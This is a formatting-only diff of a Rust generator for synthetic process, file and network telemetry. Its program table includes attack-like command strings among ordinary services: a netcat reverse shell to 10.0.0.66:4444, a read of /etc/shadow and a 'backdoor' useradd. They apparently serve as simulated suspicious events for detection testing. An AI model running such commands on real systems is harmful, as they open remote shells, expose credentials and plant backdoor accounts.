@@ -23,7 +23,11 @@ pub struct Rng(u64);
 impl Rng {
     /// A generator from a seed (0 is replaced by a fixed constant).
     pub fn new(seed: u64) -> Self {
-        Rng(if seed == 0 { 0x9e37_79b9_7f4a_7c15 } else { seed })
+        Rng(if seed == 0 {
+            0x9e37_79b9_7f4a_7c15
+        } else {
+            seed
+        })
     }
 
     /// Next 64 random bits.
@@ -58,20 +62,127 @@ struct Program {
 }
 
 const PROGRAMS: &[Program] = &[
-    Program { exe: "/usr/sbin/nginx", args: "-g daemon off;", user: ("www-data", 33), files: &["/var/www/html/index.html", "/var/log/nginx/access.log", "/etc/nginx/nginx.conf", "/usr/share/nginx/html/app.js", "/var/www/html/style.css"], net: Some((80, true)) },
-    Program { exe: "/usr/bin/node", args: "/app/server.js", user: ("node", 1000), files: &["/app/server.js", "/app/node_modules/express/index.js", "/app/package.json", "/tmp/session.db", "/app/views/index.ejs"], net: Some((3000, true)) },
-    Program { exe: "/usr/bin/python3", args: "worker.py --queue jobs", user: ("app", 1001), files: &["/app/worker.py", "/usr/lib/python3.11/json/__init__.py", "/tmp/job.tmp", "/etc/hosts", "/etc/resolv.conf"], net: Some((6379, false)) },
-    Program { exe: "/usr/sbin/sshd", args: "-D", user: ("root", 0), files: &["/etc/ssh/sshd_config", "/var/log/auth.log", "/etc/passwd", "/etc/shadow"], net: Some((22, true)) },
-    Program { exe: "/bin/bash", args: "-c /usr/local/bin/backup.sh", user: ("root", 0), files: &["/usr/local/bin/backup.sh", "/var/backups/db.tar", "/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6"], net: None },
-    Program { exe: "/usr/bin/curl", args: "-s http://10.0.0.5/health", user: ("app", 1001), files: &["/etc/ssl/certs/ca-certificates.crt", "/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libcurl.so.4"], net: Some((80, false)) },
-    Program { exe: "/usr/bin/cat", args: "/etc/shadow", user: ("root", 0), files: &["/etc/shadow", "/etc/ld.so.cache"], net: None },
-    Program { exe: "/usr/bin/nc", args: "-e /bin/sh 10.0.0.66 4444", user: ("www-data", 33), files: &["/etc/ld.so.cache"], net: Some((4444, false)) },
-    Program { exe: "/usr/bin/crontab", args: "-l", user: ("root", 0), files: &["/var/spool/cron/crontabs/root", "/etc/crontab"], net: None },
-    Program { exe: "/usr/sbin/useradd", args: "-m backdoor", user: ("root", 0), files: &["/etc/passwd", "/etc/shadow", "/etc/group"], net: None },
-    Program { exe: "/usr/lib/postgresql/15/bin/postgres", args: "-D /var/lib/postgresql/data", user: ("postgres", 999), files: &["/var/lib/postgresql/data/base/16384/2619", "/var/lib/postgresql/data/pg_wal/000000010000000000000001", "/var/lib/postgresql/data/postgresql.conf"], net: Some((5432, true)) },
+    Program {
+        exe: "/usr/sbin/nginx",
+        args: "-g daemon off;",
+        user: ("www-data", 33),
+        files: &[
+            "/var/www/html/index.html",
+            "/var/log/nginx/access.log",
+            "/etc/nginx/nginx.conf",
+            "/usr/share/nginx/html/app.js",
+            "/var/www/html/style.css",
+        ],
+        net: Some((80, true)),
+    },
+    Program {
+        exe: "/usr/bin/node",
+        args: "/app/server.js",
+        user: ("node", 1000),
+        files: &[
+            "/app/server.js",
+            "/app/node_modules/express/index.js",
+            "/app/package.json",
+            "/tmp/session.db",
+            "/app/views/index.ejs",
+        ],
+        net: Some((3000, true)),
+    },
+    Program {
+        exe: "/usr/bin/python3",
+        args: "worker.py --queue jobs",
+        user: ("app", 1001),
+        files: &[
+            "/app/worker.py",
+            "/usr/lib/python3.11/json/__init__.py",
+            "/tmp/job.tmp",
+            "/etc/hosts",
+            "/etc/resolv.conf",
+        ],
+        net: Some((6379, false)),
+    },
+    Program {
+        exe: "/usr/sbin/sshd",
+        args: "-D",
+        user: ("root", 0),
+        files: &[
+            "/etc/ssh/sshd_config",
+            "/var/log/auth.log",
+            "/etc/passwd",
+            "/etc/shadow",
+        ],
+        net: Some((22, true)),
+    },
+    Program {
+        exe: "/bin/bash",
+        args: "-c /usr/local/bin/backup.sh",
+        user: ("root", 0),
+        files: &[
+            "/usr/local/bin/backup.sh",
+            "/var/backups/db.tar",
+            "/etc/ld.so.cache",
+            "/lib/x86_64-linux-gnu/libc.so.6",
+        ],
+        net: None,
+    },
+    Program {
+        exe: "/usr/bin/curl",
+        args: "-s http://10.0.0.5/health",
+        user: ("app", 1001),
+        files: &[
+            "/etc/ssl/certs/ca-certificates.crt",
+            "/etc/ld.so.cache",
+            "/lib/x86_64-linux-gnu/libcurl.so.4",
+        ],
+        net: Some((80, false)),
+    },
+    Program {
+        exe: "/usr/bin/cat",
+        args: "/etc/shadow",
+        user: ("root", 0),
+        files: &["/etc/shadow", "/etc/ld.so.cache"],
+        net: None,
+    },
+    Program {
+        exe: "/usr/bin/nc",
+        args: "-e /bin/sh 10.0.0.66 4444",
+        user: ("www-data", 33),
+        files: &["/etc/ld.so.cache"],
+        net: Some((4444, false)),
+    },
+    Program {
+        exe: "/usr/bin/crontab",
+        args: "-l",
+        user: ("root", 0),
+        files: &["/var/spool/cron/crontabs/root", "/etc/crontab"],
+        net: None,
+    },
+    Program {
+        exe: "/usr/sbin/useradd",
+        args: "-m backdoor",
+        user: ("root", 0),
+        files: &["/etc/passwd", "/etc/shadow", "/etc/group"],
+        net: None,
+    },
+    Program {
+        exe: "/usr/lib/postgresql/15/bin/postgres",
+        args: "-D /var/lib/postgresql/data",
+        user: ("postgres", 999),
+        files: &[
+            "/var/lib/postgresql/data/base/16384/2619",
+            "/var/lib/postgresql/data/pg_wal/000000010000000000000001",
+            "/var/lib/postgresql/data/postgresql.conf",
+        ],
+        net: Some((5432, true)),
+    },
 ];
 
-const ENV: &[&str] = &["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8", "HOSTNAME=web-0"];
+const ENV: &[&str] = &[
+    "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+    "HOME=/root",
+    "LANG=C.UTF-8",
+    "HOSTNAME=web-0",
+];
 
 struct Proc {
     oid: Oid,
@@ -148,7 +259,10 @@ impl Generator {
         let ts = self.tick();
         let container = (self.rng.below(3) > 0).then(|| self.rng.pick(&self.containers).clone());
         let p = &PROGRAMS[prog];
-        let oid = Oid { create_ts: ts, hpid: pid };
+        let oid = Oid {
+            create_ts: ts,
+            hpid: pid,
+        };
         self.queue.push_back(Record::Process(Process {
             state: ObjectState::Created,
             oid,
@@ -182,9 +296,21 @@ impl Generator {
         }
         for (flag, args) in [(op::CLONE, vec![]), (op::EXEC, vec![p.exe.to_string()])] {
             let ts = self.tick();
-            self.queue.push_back(Record::ProcessEvent(ProcessEvent { proc_oid: oid, ts, tid: pid, op_flags: flag, args, ret: 0 }));
+            self.queue.push_back(Record::ProcessEvent(ProcessEvent {
+                proc_oid: oid,
+                ts,
+                tid: pid,
+                op_flags: flag,
+                args,
+                ret: 0,
+            }));
         }
-        self.procs.push(Proc { oid, prog, container, files });
+        self.procs.push(Proc {
+            oid,
+            prog,
+            container,
+            files,
+        });
         self.procs.len() - 1
     }
 
@@ -206,8 +332,13 @@ impl Generator {
             let write = self.rng.below(4) == 0;
             let ops = 1 + self.rng.below(20) as i64;
             let bytes = ops * (1 + self.rng.below(8192) as i64);
-            let open_flags = if write { open::WRONLY | open::CREAT | open::APPEND } else { open::RDONLY | open::CLOEXEC };
-            let op_flags = op::OPEN | op::CLOSE | if write { op::WRITE_SEND } else { op::READ_RECV };
+            let open_flags = if write {
+                open::WRONLY | open::CREAT | open::APPEND
+            } else {
+                open::RDONLY | open::CLOEXEC
+            };
+            let op_flags =
+                op::OPEN | op::CLOSE | if write { op::WRITE_SEND } else { op::READ_RECV };
             self.queue.push_back(Record::FileFlow(FileFlow {
                 proc_oid: oid,
                 ts,
@@ -223,19 +354,27 @@ impl Generator {
                 num_w_send_bytes: if write { bytes } else { 0 },
             }));
         } else if roll < 97 {
-            let Some((port, server)) = PROGRAMS[prog].net else { return };
+            let Some((port, server)) = PROGRAMS[prog].net else {
+                return;
+            };
             let peer = ipv4_from_octets([10, 0, 0, 2 + self.rng.below(200) as u8]);
             let me = ipv4_from_octets([172, 17, 0, 2]);
             let eph = 32768 + self.rng.below(28000) as i32;
-            let (sip, sport, dip, dport) =
-                if server { (peer, eph, me, i32::from(port)) } else { (me, eph, peer, i32::from(port)) };
+            let (sip, sport, dip, dport) = if server {
+                (peer, eph, me, i32::from(port))
+            } else {
+                (me, eph, peer, i32::from(port))
+            };
             let rops = 1 + self.rng.below(10) as i64;
             let wops = 1 + self.rng.below(10) as i64;
             self.queue.push_back(Record::NetworkFlow(NetworkFlow {
                 proc_oid: oid,
                 ts,
                 tid,
-                op_flags: (if server { op::ACCEPT } else { op::CONNECT }) | op::READ_RECV | op::WRITE_SEND | op::CLOSE,
+                op_flags: (if server { op::ACCEPT } else { op::CONNECT })
+                    | op::READ_RECV
+                    | op::WRITE_SEND
+                    | op::CLOSE,
                 end_ts,
                 sip,
                 sport,
@@ -250,11 +389,29 @@ impl Generator {
             }));
         } else if roll < 99 {
             let foid = *self.rng.pick(&self.procs[i].files);
-            let flag = *self.rng.pick(&[op::UNLINK, op::RENAME, op::MKDIR, op::SYMLINK]);
-            let new_file_oid = (flag == op::RENAME || flag == op::SYMLINK).then(|| *self.rng.pick(&self.procs[i].files));
-            self.queue.push_back(Record::FileEvent(FileEvent { proc_oid: oid, ts, tid, op_flags: flag, file_oid: foid, ret: 0, new_file_oid }));
+            let flag = *self
+                .rng
+                .pick(&[op::UNLINK, op::RENAME, op::MKDIR, op::SYMLINK]);
+            let new_file_oid = (flag == op::RENAME || flag == op::SYMLINK)
+                .then(|| *self.rng.pick(&self.procs[i].files));
+            self.queue.push_back(Record::FileEvent(FileEvent {
+                proc_oid: oid,
+                ts,
+                tid,
+                op_flags: flag,
+                file_oid: foid,
+                ret: 0,
+                new_file_oid,
+            }));
         } else {
-            self.queue.push_back(Record::ProcessEvent(ProcessEvent { proc_oid: oid, ts, tid: oid.hpid, op_flags: op::EXIT, args: vec![], ret: 0 }));
+            self.queue.push_back(Record::ProcessEvent(ProcessEvent {
+                proc_oid: oid,
+                ts,
+                tid: oid.hpid,
+                op_flags: op::EXIT,
+                args: vec![],
+                ret: 0,
+            }));
             let p = self.procs.swap_remove(i);
             let _ = (p.container, p.files);
         }
